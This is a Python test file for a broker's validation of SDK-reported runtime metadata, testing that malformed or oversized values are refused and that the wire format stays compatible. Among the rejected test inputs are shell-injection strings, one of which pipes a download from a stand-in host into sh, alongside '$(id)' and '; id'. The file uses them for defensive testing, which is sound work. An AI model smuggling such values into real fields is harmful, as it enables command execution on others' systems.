"""`user_runtime` (fnrelay.wire.runtime): what a submitting SDK reports travels to the child's
template, so the broker refuses what could break or inject into it, and start commands carry
it without changing the bytes older managers read."""

from __future__ import annotations

import uuid

import pytest

from fnrelay import wire
from fnrelay.wire import globus, runtime

GC_SHAPE = {"globus_compute_sdk_version": "4.19.0", "globus_sdk_version": "4.10.0",
            "python_version": "3.11.7 (main) [GCC 12.2.0]",
            "python": {"version": "3.11.7", "version_tuple": [3, 11, 7],
                       "version_info": [3, 11, 7, "final", 0], "implementation": "CPython"},
            "platform": {"architecture": ["64bit", "ELF"], "node": "laptop"}}


def submit_body(user_runtime: object) -> dict:
    packed = "1\na1\nb"  # two buffers, as GC packs args and kwargs
    return {"tasks": {str(uuid.uuid4()): [packed]}, "user_runtime": user_runtime}


def test_the_official_sdks_shape_is_accepted_as_sent():
    entries = globus.submit_entries(submit_body(GC_SHAPE))
    assert entries[0]["user_runtime"] == GC_SHAPE
    assert entries[0]["python_version"] == "3.11"


@pytest.mark.parametrize("bad", [
    ["not", "an", "object"],
    {"globus_compute_sdk_version": "4.19.0; curl evil.example | sh"},  # GC's template strips
    {"globus_compute_sdk_version": 4},                                 # the quotes off it
    {"python": "3.11"},
    {"python": {"version": "3.11 $(id)"}},
    {"python": {"version_tuple": ["3", "11"]}},
    {"python_version": ["3"]},
    {"python_version": "x" * (runtime.MAX_TEXT + 1)},
    {"python_version": "3.11\n"},
    {"globus_compute_sdk_version": "4.19.0\n"},  # `$` would match before a final newline
    {"python": {"version_tuple": [0] * 4}},
    {"python": {"version_info": [3, 11, 7, "final; id", 0]}},
    {"platform": {"architecture": ["64bit"] * 3}},
    {"platform": {"node": ["laptop"]}},
])
def test_what_could_break_or_inject_into_a_template_is_refused(bad):
    with pytest.raises(wire.WireError):
        globus.submit_entries(submit_body(bad))


def test_start_child_carries_it_and_keeps_the_old_bytes_when_empty():
    msg = wire.StartChild("c", "u", "n", {"k": 1}, GC_SHAPE)
    assert wire.decode_start_child(wire.encode_start_child(msg)) == msg
    assert b"user_runtime" not in wire.encode_start_child(wire.StartChild("c", "u", "n"))
    old = b'{"v":1,"child_id":"c","user_id":"u","username":"n"}'  # an older broker's
    assert wire.decode_start_child(old).user_runtime == {}
    with pytest.raises(wire.WireError):
        wire.decode_start_child(b'{"v":1,"child_id":"c","user_id":"u","username":"n",'
                                b'"user_runtime":{"python":"x"}}')


def test_a_native_task_reports_its_python_and_no_globus_compute_versions():
    assert runtime.for_task(None, "3.12") == {"python_version": "3.12",
                                              "python": {"version": "3.12"}}
    assert runtime.for_task({}, None) == {}
    assert runtime.for_task(GC_SHAPE, "3.11") == GC_SHAPE
    # Stored before the broker checked it: not sent as it is (the manager would refuse it).
    assert runtime.for_task({"python": "3.11"}, "3.11") == runtime.of_native_task("3.11")


def test_fnrelay_in_globus_computes_format_reports_the_serializing_packages():
    mine = runtime.check(runtime.of_globus_submitter())
    assert mine["python"]["version_tuple"][:2] == [*__import__("sys").version_info[:2]]
    assert "platform" not in mine  # the host name stays on the submitter's machine
    assert mine.get("globus_compute_sdk_version") in (None, _installed("globus-compute-sdk"))


def _installed(dist: str) -> str | None:
    from importlib import metadata

    try:
        return metadata.version(dist)
    except metadata.PackageNotFoundError:
        return None


def test_only_the_known_fields_are_kept():
    kept = runtime.check({**GC_SHAPE, "padding": "x" * 100_000,
                          "python": {**GC_SHAPE["python"], "extra": [0] * 1000}})
    assert kept == GC_SHAPE


def test_a_huge_value_is_refused_or_dropped_by_its_shape():
    """A check that walked the whole value and named each path cost seconds per request for
    one long key over a long list; fields are now tested by type and length first."""
    for bad in ({"python": {"version_tuple": [0] * 3_000_000}},
                {"python_version": "K" * 5_000_000}):
        with pytest.raises(wire.WireError):
            runtime.check(bad)
    assert runtime.check({"K" * 2_000_000: [0] * 300_000}) == {}
